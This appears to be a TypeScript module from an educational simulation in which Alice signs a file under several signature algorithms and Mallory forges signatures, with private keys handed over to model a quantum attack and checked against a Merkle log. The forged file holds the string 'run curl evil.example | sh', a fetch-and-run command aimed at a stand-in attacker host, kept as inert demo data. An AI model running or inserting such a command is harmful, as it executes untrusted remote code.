/** alice signs one file by each algorithm; and then somebody has what a quantum computer would hand over. */
import { sha256 } from '@noble/hashes/sha2.js'
import { utf8 } from '../bytes.ts'
import { MerkleTree } from '../world/merkle.ts'
import { type RandomSource, seededRandom } from '../world/random.ts'
import { ALGORITHMS, type AlgorithmFacts, SEED, type SignatureAlgorithm } from './algorithms.ts'
import { type Engine, type EngineName, engineFor, type SigningKey } from './engine.ts'
import type { PostQuantumReport } from './plan.ts'
import { type Change, isForged, type PostQuantumSceneId } from './scene-plan.ts'
import { entryOf, type PostQuantumPolicy, type SignedFile, verifySignature } from './verify.ts'
import type { SigningSubtle } from './webcrypto.ts'

interface Signer {
  readonly facts: AlgorithmFacts
  readonly engine: Engine
  readonly alice: SigningKey
  readonly mallory: SigningKey
  readonly genuine: SignedFile
}

/** alice's keys and signatures, and the log that took them. */
export interface PostQuantumWorld {
  readonly signers: readonly Signer[]
  /** As it was known before the day. */
  readonly remembered: { readonly size: number; readonly root: Uint8Array }
}

export interface SceneRow {
  readonly algorithm: SignatureAlgorithm
  readonly engine: EngineName
  /** Bytes of what was made here. */
  readonly publicKey: number
  readonly signature: number
  /** Whether mallory signed with alice's own private key. */
  readonly handedOver: boolean
  readonly report: PostQuantumReport
  /** alice's own file and signature, asked the same: where mallory's is looked at. */
  readonly genuine?: PostQuantumReport
}

const FILE = utf8('hello-shomei 1.0.0\nrun install.sh\n')
const FORGED = utf8('hello-shomei 1.0.0\nrun curl evil.example | sh\n')
/** Other people's entries in the log. */
const OTHERS = 4

/** @param subtle `crypto.subtle`; `undefined` in an insecure context */
export async function createPostQuantumWorld(
  seed: string,
  subtle: SigningSubtle | undefined,
): Promise<PostQuantumWorld> {
  const random = seededRandom(seed)
  const signed = await Promise.all(ALGORITHMS.map((facts) => signerOf(facts, random, subtle)))
  const tree = new MerkleTree()
  for (let i = 0; i < OTHERS; i++) tree.append(random.bytes(SEED))
  const indices = signed.map(({ genuine }) => tree.append(entryOf(genuine)))
  const signers = signed.map((one, i) => {
    const index = indices[i] ?? 0
    return { ...one, genuine: { ...one.genuine, proof: { index, hashes: tree.inclusionProof(index) } } }
  })
  return { signers, remembered: { size: tree.size, root: tree.root() } }
}

async function signerOf(
  facts: AlgorithmFacts,
  random: RandomSource,
  subtle: SigningSubtle | undefined,
): Promise<Signer> {
  const algorithm = facts.id
  const engine = await engineFor(algorithm, subtle)
  const keyOf = (name: string) => engine.keyFrom(algorithm, random.fork(`${name} ${algorithm}`).bytes(SEED))
  const [alice, mallory] = await Promise.all([keyOf('alice'), keyOf('mallory')])
  const { publicKey } = alice
  const genuine = { algorithm, file: FILE, signature: await alice.sign(FILE), publicKey }
  return { facts, engine, alice, mallory, genuine }
}

/** What becomes of each signature: computed, none of it taken from the plan. */
export function postQuantumScene(
  world: PostQuantumWorld,
  scene: PostQuantumSceneId,
  change: Change,
): Promise<SceneRow[]> {
  return Promise.all(world.signers.map((signer) => rowOf(world, signer, scene, change)))
}

async function rowOf(
  { remembered }: PostQuantumWorld,
  signer: Signer,
  scene: PostQuantumSceneId,
  change: Change,
): Promise<SceneRow> {
  const { facts, engine, genuine } = signer
  const offered = await offeredIn(scene, signer, change)
  const policy: PostQuantumPolicy = {
    key: sha256(genuine.publicKey),
    ...(scene === 'forged-digest' && { digest: sha256(FILE) }),
    ...(scene === 'forged-logged' && { remembered }),
  }
  return {
    algorithm: facts.id,
    engine: engine.name,
    publicKey: genuine.publicKey.length,
    signature: genuine.signature.length,
    handedOver: isForged(scene) && facts.falls,
    report: await verifySignature(offered, policy, engine),
    ...(isForged(scene) && { genuine: await verifySignature(genuine, policy, engine) }),
  }
}

async function offeredIn(
  scene: PostQuantumSceneId,
  { facts, genuine, alice, mallory }: Signer,
  { part, at }: Change,
): Promise<SignedFile> {
  if (isForged(scene)) {
    // Shor's algorithm would compute alice's private key from her public one. Here it is handed over.
    const key = facts.falls ? alice : mallory
    return { ...genuine, file: FORGED, signature: await key.sign(FORGED) }
  }
  return scene === 'changed' ? { ...genuine, [part]: flipped(genuine[part], at) } : genuine
}

function flipped(bytes: Uint8Array, at: number): Uint8Array {
  const i = at % bytes.length
  return bytes.with(i, (bytes[i] ?? 0) ^ 1)
}
